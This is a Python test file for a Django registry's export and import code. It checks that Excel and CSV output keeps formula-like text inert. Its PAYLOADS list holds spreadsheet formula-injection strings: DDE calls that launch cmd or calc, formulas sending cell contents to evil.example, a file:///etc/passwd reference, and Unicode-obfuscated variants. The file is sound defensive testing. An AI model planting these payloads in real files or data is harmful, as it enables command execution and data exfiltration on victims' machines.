"""What looks like a formula stays the text that was typed: in Excel, in CSV, and on its way back in."""

import csv
import re
from io import BytesIO, StringIO
from zipfile import ZipFile

import pytest
from django.urls import reverse
from openpyxl import load_workbook
from openpyxl.utils.escape import unescape

from registry.exchange import files
from registry.exchange.columns.shape import TEXT, Column, Table
from registry.exchange.imports.preview import preview_file
from registry.models import Certificate, Investor, Project
from registry.vocabulary.batch import Fate
from registry.vocabulary.formula import marked, unmarked
from tests import build
from tests.exchange.test_imports_round_trip import NOW

# As testers of security type them, and as an officer may without knowing.
PAYLOADS = [
    # The signs, and the classics
    "=1+1", "+1+1", "-1+1", "@SUM(1+1)", "=", "+", "-", "@", "=-1", "==1", "-Nhà máy số 1", "+84 222 3822 111",
    "@amkor",
    "-5", "-1.600.000.000", "+1,5", "=A1", "=\"x\"", "={1;2}",
    # Other programs and other machines
    "=cmd|' /C calc'!A0", "+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0",
    "=MSEXCEL|'\\..\\..\\..\\Windows\\System32\\cmd.exe /c calc.exe'!''", "=rundll32|'URL.dll,OpenURL calc.exe'!A",
    "=DDE(\"cmd\";\"/C calc\";\"!A0\")", "%0A-3+3+cmd|' /C calc'!D2",
    "=HYPERLINK(\"https://evil.example/?x=\"&A1,\"Bấm vào đây\")", "=WEBSERVICE(\"https://evil.example/\"&A1)",
    "=IMPORTXML(CONCAT(\"https://evil.example/?v=\",A2),\"//a\")", "=IMAGE(\"https://evil.example/x.png\")",
    "=IMPORTDATA(\"https://evil.example\")", "='file:///etc/passwd'#$passwd.A1", "=SUM(1+1)*cmd|' /C calc'!A0",
    # Behind what a spreadsheet may skip
    " =1+1", "   +1+1", "\t=1+1", "\r=1+1", "\n=1+1", "\r\n@SUM(1)", "\u00a0=1+1", "\u3000=1+1", "\u2003-1+1", "'=1+1",
    "''=1+1", "\"=1+1\"", "\"\"=1+1", "'\"=1+1", " '=1+1", "`=1+1",
    # Other scripts' signs, and what nobody sees
    "＝1+1", "＋1+1", "－1+1", "＠SUM(1)", "\u200b=1+1", "\ufeff=1+1", "\u2060+1", "\u202e=1+1", "﹦1+1", "\u00ad=1+1",
    # In the middle: separators, lines, another's escape
    "Nhà máy;=1+1", "Nhà máy,=1+1", "Nhà máy\n=1+1", "Nhà máy\t=1+1", "x\",=1+1,\"", "_x003D_1+1", "&#61;1+1", "[=1]",
]
NEVER = ["\0=1+1"]  # no database keeps it
ONE = Table("thu", (Column("text", "chữ", TEXT, lambda row: row["text"]),))


def test_there_are_enough_of_them():
    assert len(set(PAYLOADS)) == len(PAYLOADS) >= 60


def bytes_of(answer) -> bytes:
    assert answer.status_code == 200
    return b"".join(answer.streaming_content)


def cells(data: bytes) -> list[list]:
    """The cells of a workbook, after its heading. None has a formula, none is a link, nothing leads elsewhere."""
    with ZipFile(BytesIO(data)) as archive:
        sheet = archive.read("xl/worksheets/sheet1.xml").decode()
        assert not re.search(r"<f[ >/]|<hyperlink", sheet)
        assert not [name for name in archive.namelist() if "external" in name.lower() or "sheet1.xml.rels" in name]
    return list(load_workbook(BytesIO(data)).active.iter_rows(min_row=2))


def rows_of(data: bytes) -> list[dict]:
    """The rows of a CSV in the order of their codes."""
    rows = csv.DictReader(StringIO(data.decode("utf-8-sig"), newline=""))
    return sorted(rows, key=lambda row: row["code"])


def same_lines(text: str) -> str:
    """XML has one kind of line end: what reads it may make a newline of a carriage return."""
    return text.replace("\r\n", "\n").replace("\r", "\n")


@pytest.mark.parametrize("text", PAYLOADS)
def test_excel_keeps_the_text(text):
    out = BytesIO()
    files.write_xlsx(out, ONE, [{"text": text}], today=NOW.date())
    [[cell]] = cells(out.getvalue())
    assert (cell.data_type, same_lines(unescape(cell.value))) == ("s", same_lines(text))


@pytest.mark.parametrize("text", PAYLOADS + NEVER)
def test_csv_keeps_the_text_and_no_spreadsheet_computes_it(text):
    out = BytesIO()
    files.write_csv(out, ONE, [{"text": text}])
    [_heading, [cell]] = csv.reader(StringIO(out.getvalue().decode("utf-8-sig"), newline=""))
    assert cell == marked(text)
    assert cell.lstrip(" \t\r\n\"\u00a0\u3000\u2003\u200b\ufeff\u2060\u202e\u00ad\0")[:1] not in set("=+-@＝＋－＠﹦")
    assert unmarked(cell) == text


@pytest.mark.parametrize("text", ["Amkor", "'Amkor'", "’=1", "(=1)", "1-1", "a=b", "", "'", "''"])
def test_any_other_text_stays_without_a_mark(text):
    assert marked(text) == text == unmarked(text)


@pytest.fixture(scope="module")
def payloads(lasting):
    with lasting(write_payloads):
        yield


@pytest.fixture
def named(payloads, client):
    client.force_login(build.make_officer("lan"))
    return client


def write_payloads() -> None:
    """A project, its investor and its certificate for each payload."""
    with build.act() as act:
        source = build.make_source(act=act)
        for text in PAYLOADS:
            investor = build.make_investor(act=act, name=text, name_en=text)
            project = build.make_project(act=act, name=text, objective=text, address=text, investors=[investor],
                                         source=source)
            build.make_certificate(project, act=act, kind="correction", changes=text)


LISTS = [("project", "projects", Project, ("name", "objective", "address", "investors.name")),
         ("investor", "investors", Investor, ("name", "name_en")),
         ("certificate", "certificates", Certificate, ("project.name", "changes"))]


@pytest.mark.django_db
@pytest.mark.parametrize("door", ["public", "officers"])
@pytest.mark.parametrize(("noun", "table", "model", "columns"), LISTS)
def test_files_of_lists_keep_it_and_come_back_unchanged(named, door, noun, table, model, columns):
    def address(form: str) -> str:
        if door == "officers":
            return reverse(f"admin:registry_{noun}_export-{form}")
        return f"/{table}/?format={form}"

    if door == "public" and table == "certificates":
        return  # it has no page of its own
    sheet, text = bytes_of(named.get(address("xlsx"))), bytes_of(named.get(address("csv")))
    rows = rows_of(text)
    by_code = dict(zip((row["code"] for row in rows), PAYLOADS, strict=True))
    assert [unmarked(row[name]) for row in rows for name in columns] == [each for each in PAYLOADS for _ in columns]
    places = [list(rows[0]).index(name) for name in columns]
    for row in cells(sheet):
        for place in places:
            assert (row[place].data_type, same_lines(unescape(row[place].value))) == (
                "s", same_lines(by_code[row[0].value]))

    for data, form in ((sheet, "xlsx"), (text, "csv")):
        preview = preview_file(data, f"{table}.{form}", table, now=NOW)
        assert preview.problems == ()
        assert {row.fate for row in preview.rows} == {Fate.UNCHANGED}
        assert len(preview.rows) == model.objects.count() == len(PAYLOADS)


@pytest.mark.django_db
def test_the_file_by_numbers_keeps_it_too(named):
    sheet, text = (bytes_of(named.get(reverse(f"admin:registry_project_national-{form}")))
                   for form in ("xlsx", "csv"))
    rows = rows_of(text)
    for name in ("name", "investors", "objective", "address"):
        assert [unmarked(row[name]) for row in rows] == PAYLOADS
        place = list(rows[0]).index(name)
        read = [row[place] for row in sorted(cells(sheet), key=lambda row: row[-1].value)]
        assert {cell.data_type for cell in read} == {"s"}
        assert [same_lines(unescape(cell.value)) for cell in read] == [same_lines(text) for text in PAYLOADS]


@pytest.mark.django_db
def test_json_says_it_as_it_is(named):
    answer = named.get(reverse("admin:registry_project_export-json"))
    assert bytes_of(answer)
    assert answer["Content-Type"] == "application/json" and "attachment" in answer["Content-Disposition"]
